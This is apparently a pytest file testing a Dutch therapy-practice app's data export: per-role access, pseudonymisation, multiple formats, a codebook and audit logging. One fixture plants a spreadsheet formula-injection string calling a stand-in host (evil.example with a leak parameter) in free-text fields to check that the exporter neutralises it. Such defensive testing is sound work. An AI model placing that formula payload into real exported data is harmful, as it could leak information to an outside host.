"""The export (store.exporter) on both backends: what each role gets, pseudonymised;
every format read back; the codebook covering every column; formulas neutralised; an
audit line per export."""

from __future__ import annotations

import datetime as dt

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import func, select, update

from complexity import INSTRUMENT
from store import AccessDenied
from store import NotFound
from store.exporter import queries, writers
from store.cases import add_case, rate_case, record_sessions
from store.checkins import save_checkin
from store.__main__ import main
from store.db import session_scope
from store.exporter import ExportError, export_tables
from store.models import AuditEvent, Case, ResearchConsent, Team, TherapySession, UserAccount, WeeklyCheckin

D = dt.date
FORMULA = '=HYPERLINK("http://evil.example/?leak=1","klik hier")'
SECRET_HASH = "$argon2id$v=19$m=65536,t=3,p=4$c2VjcmV0$bm90IGEgcmVhbCBoYXNo"
REFLECTION = "Zware week met veel piekeren."
MODERATE = {i: 2 for i in INSTRUMENT.scored_item_ids}


@pytest.fixture
def practice(engine, people):
    """Two therapists with a rated case, sessions and check-ins; a team name that is a
    formula; an account with secrets; research consent."""
    monday = D(2025, 3, 3)
    for user, therapist, ratings in ((people.u1, people.t1, MODERATE), (people.u2, people.t2, {})):
        with session_scope(engine) as s:
            code = add_case(s, user, opened_on=monday)
            if ratings:
                rate_case(s, user, code, dict(ratings, burden=6), monday)
            record_sessions(s, user, code, [(monday + dt.timedelta(days=k), 45) for k in range(3)])
            save_checkin(s, user, monday, {"energy": 4, "sleep": 6, "burnout": 2})
        with session_scope(engine) as s:
            s.add(ResearchConsent(therapist_id=therapist.id, research_id=f"R{therapist.id:031d}"))
    with session_scope(engine) as s:
        s.execute(update(Team).where(Team.id == people.team_id).values(name=FORMULA))
        s.execute(update(WeeklyCheckin).where(WeeklyCheckin.therapist_id == people.t1.id)
                  .values(reflection=REFLECTION))
        s.execute(update(WeeklyCheckin).where(WeeklyCheckin.therapist_id == people.t2.id)
                  .values(reflection=FORMULA))
        s.execute(update(UserAccount).where(UserAccount.id == people.admin.id)
                  .values(password_hash=SECRET_HASH, totp_secret="JBSWY3DPEHPK3PXP"))
    return people


def read_csv(path) -> pd.DataFrame:
    return pd.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig", dtype={"therapist": str, "therapist_id": str})


def export_events(engine) -> list[AuditEvent]:
    """The export's own event (not the per-therapist lines of an operator export)."""
    with session_scope(engine, readonly=True) as s:
        events = s.scalars(select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id))
        return [e for e in events if not (e.actor_user_id is None and e.subject_type == "therapist")]


def test_operator_export_has_every_table_pseudonymised_in_every_format(engine, practice, tmp_path):
    out = tmp_path / "export"
    result = export_tables(engine, out)
    assert result.folder == out
    tables = list(result.tables)
    # Never wellbeing data (check-ins, goals, shares, consents): those are the therapists' own.
    assert {"therapists", "cases", "ratings", "scores", "sessions", "teams", "accounts",
            "supervisor_teams", "audit_events"} == set(tables)
    with session_scope(engine, readonly=True) as s:
        n_sessions = s.scalar(select(func.count()).select_from(TherapySession))
        weights = sorted(s.scalars(select(TherapySession.weight)))
        n_cases = s.scalar(select(func.count()).select_from(Case))

    workbook = openpyxl.load_workbook(out / writers.XLSX_NAME)
    assert workbook.sheetnames == tables + ["codebook"]
    everything = []
    for name in tables:
        csv = read_csv(out / f"{name}.csv")
        parquet = pd.read_parquet(out / f"{name}.parquet")
        sheet = pd.read_excel(out / writers.XLSX_NAME, sheet_name=name, dtype={"therapist": str})
        assert list(csv.columns) == list(parquet.columns) == list(sheet.columns)
        assert len(csv) == len(parquet) == len(sheet) == result.tables[name]
        everything += [csv, parquet]
        forbidden = {"display_name", "username", "password_hash", "totp_secret", "totp_pending_secret",
                     "reflection", "research_id", "text", "resource"}
        assert not forbidden & set(csv.columns), name
    assert result.tables["sessions"] == n_sessions and result.tables["cases"] == n_cases
    assert sorted(pd.read_parquet(out / "sessions.parquet")["weight"]) == weights
    assert sorted(read_csv(out / "sessions.csv")["weight"]) == pytest.approx(weights)  # decimal comma read back
    text = "\n".join(f.to_csv() for f in everything)
    for secret in ("Anna", "Bram", "anna", SECRET_HASH, "JBSWY3DPEHPK3PXP", REFLECTION, "R0000"):
        assert secret not in text, secret
    therapists = pd.read_parquet(out / "therapists.parquet")
    assert set(therapists["therapist"]) == {str(t.id) for t in (practice.t1, practice.t2, practice.t3)}

    scores = pd.read_parquet(out / "scores.parquet")
    assert len(scores) == 1 and scores["band"].iloc[0] == "moderate"
    assert scores["instrument_version"].notna().all() and scores["model_version"].notna().all()
    contributions = scores.filter(like="contrib_").sum(axis=1) + scores["interaction"]
    assert contributions.iloc[0] == pytest.approx(scores["complexity"].iloc[0])
    # The range and the unrated count (the interplay was not rated) beside the score.
    assert scores["unrated_items"].iloc[0] == 1
    assert scores["complexity_low"].iloc[0] < scores["complexity"].iloc[0] < scores["complexity_high"].iloc[0]
    ratings = pd.read_parquet(out / "ratings.parquet")
    assert list(ratings["burden"]) == [6] and list(ratings["instrument_version"]) == [INSTRUMENT.version]
    sessions = pd.read_parquet(out / "sessions.parquet")  # each weighed session names its model
    assert set(sessions.loc[sessions["complexity"].notna(), "model_version"]) == {scores["model_version"].iloc[0]}
    assert sessions.loc[sessions["complexity"].isna(), "model_version"].isna().all()

    # A formula in free text is neutralised in csv and xlsx, kept as text in parquet.
    teams_csv = (out / "teams.csv").read_text("utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in teams_csv
    assert read_csv(out / "teams.csv")["name"].str.startswith("'=").sum() == 1
    cells = [c for row in workbook["teams"].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(cells) == 1 and cells[0].value == "'" + FORMULA and cells[0].data_type == "s"
    assert FORMULA in set(pd.read_parquet(out / "teams.parquet")["name"])

    # The codebook describes exactly the exported columns, in every form.
    codebook = pd.read_csv(out / "codebook.csv", sep=";", encoding="utf-8-sig")
    exported = {(name, col) for name in tables for col in read_csv(out / f"{name}.csv").columns}
    assert set(zip(codebook["table"], codebook["column"])) == exported
    assert codebook["label_nl"].notna().all() and codebook["label_en"].notna().all()
    items = codebook[(codebook["table"] == "ratings") & codebook["column"].isin(INSTRUMENT.item_ids)]
    assert (items["instrument_version"] == INSTRUMENT.version).all()
    assert len(pd.read_excel(out / writers.XLSX_NAME, sheet_name="codebook")) == len(codebook)
    markdown = (out / "codebook.md").read_text("utf-8")
    assert "Codeboek" in markdown and "`audit_events`" in markdown and "`contrib_emotions`" in markdown
    assert "Codebook" in (out / "codebook.en.md").read_text("utf-8")

    (event,) = export_events(engine)
    assert event.actor_user_id is None and "operator export" in event.detail and "xlsx" in event.detail
    with session_scope(engine, readonly=True) as s:  # and one line per therapist, for their own log
        subjects = s.scalars(select(AuditEvent.subject_id).where(AuditEvent.action == "export",
                                                                 AuditEvent.subject_type == "therapist")).all()
    assert sorted(subjects) == sorted(str(t.id) for t in (practice.t1, practice.t2, practice.t3))
    assert not list(tmp_path.glob(".*.tmp"))


def test_therapist_exports_their_own_data_with_their_free_text(engine, practice, tmp_path):
    result = export_tables(engine, tmp_path / "own", formats=["csv", "xlsx"], username="bram")
    out = result.folder
    assert not list(out.glob("*.parquet"))
    cases = read_csv(out / "cases.csv")
    assert set(cases["therapist"]) == {str(practice.t2.id)} and len(cases) == 1
    checkins = read_csv(out / "checkins.csv")
    assert checkins["reflection"].tolist() == ["'" + FORMULA]  # their own reflection, neutralised
    assert read_csv(out / "therapists.csv")["display_name"].tolist() == ["Bram"]
    assert "accounts" not in result.tables and "audit_events" not in result.tables
    assert len(read_csv(out / "weekly_load.csv")) == queries.SUPERVISOR_WEEKS
    assert read_csv(out / "scores.csv").empty  # Bram's case was never rated
    (event,) = export_events(engine)
    assert event.actor_user_id == practice.u2.id
    assert (event.subject_type, event.subject_id) == ("therapist", str(practice.t2.id))


def test_supervisor_exports_team_load_without_names(engine, practice, tmp_path):
    with session_scope(engine, readonly=True) as s:
        reads_before = s.scalar(select(func.count()).where(AuditEvent.action == "read"))
    result = export_tables(engine, tmp_path / "team", formats=["parquet"], username="sanne")
    assert list(result.tables) == ["weekly_load"]
    load = pd.read_parquet(result.folder / "weekly_load.parquet")
    assert set(load["therapist_id"]) == {str(practice.t1.id), str(practice.t2.id)}  # team A only
    assert "display_name" not in load.columns
    with session_scope(engine, readonly=True) as s:
        reads = s.scalar(select(func.count()).where(AuditEvent.action == "read"))
    assert reads == reads_before + 2  # one read per therapist, by the repository
    assert len(export_events(engine)) == 1


def test_researcher_and_unknown_accounts_get_nothing(engine, practice, tmp_path):
    with pytest.raises(AccessDenied):
        export_tables(engine, tmp_path / "r", username="rita")
    with pytest.raises(NotFound):
        export_tables(engine, tmp_path / "x", username="nobody")
    assert not (tmp_path / "r").exists() and not (tmp_path / "x").exists()
    with session_scope(engine, readonly=True) as s:
        denied = s.scalars(select(AuditEvent).where(AuditEvent.action == "authz_denied")).all()
    assert [e.actor_user_id for e in denied] == [practice.researcher.id]
    assert export_events(engine) == []


def test_refusals_write_nothing(engine, practice, tmp_path, monkeypatch):
    taken = tmp_path / "taken"
    taken.mkdir()
    (taken / "keep.txt").write_text("mine")
    with pytest.raises(ExportError, match="not an empty folder"):
        export_tables(engine, taken)
    assert [p.name for p in taken.iterdir()] == ["keep.txt"]
    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 2)
    with pytest.raises(ExportError, match="sessions .* Excel"):
        export_tables(engine, tmp_path / "big")
    assert not (tmp_path / "big").exists()
    export_tables(engine, tmp_path / "big", formats=["csv", "parquet"])  # without xlsx it fits
    assert len(export_events(engine)) == 1
    with pytest.raises(ExportError, match="unknown format"):
        export_tables(engine, tmp_path / "pdf", formats=["pdf"])


def test_command_line_export(tmp_path, monkeypatch, capsys, sqlite_template, make_people):
    import shutil

    from store.db import make_engine

    db = tmp_path / "cli.sqlite3"
    shutil.copyfile(sqlite_template, db)
    engine = make_engine(f"sqlite:///{db}")
    make_people(engine)
    engine.dispose()
    monkeypatch.setenv("DRAAGKRACHT_DATABASE_URL", f"sqlite:///{db}")
    out = tmp_path / "cli-export"
    assert main(["export", "--format", "csv,parquet", "--out", str(out)]) == 0
    assert "exported to" in capsys.readouterr().out
    assert (out / "therapists.csv").exists() and (out / "codebook.csv").exists()
    assert main(["export", "--out", str(out)]) == 2
    assert "not an empty folder" in capsys.readouterr().err
    assert main(["export", "--out", str(tmp_path / "r"), "--as", "rita"]) == 2
    assert "research dataset" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_:
        main(["export", "--format", "pdf"])
    assert exit_.value.code == 2


def test_an_admin_account_exports_no_clinical_or_wellbeing_tables(engine, practice, tmp_path):
    result = export_tables(engine, tmp_path / "admin", username="admin", formats=("csv",))
    assert set(result.tables) == {"teams", "accounts", "supervisor_teams", "audit_events"}
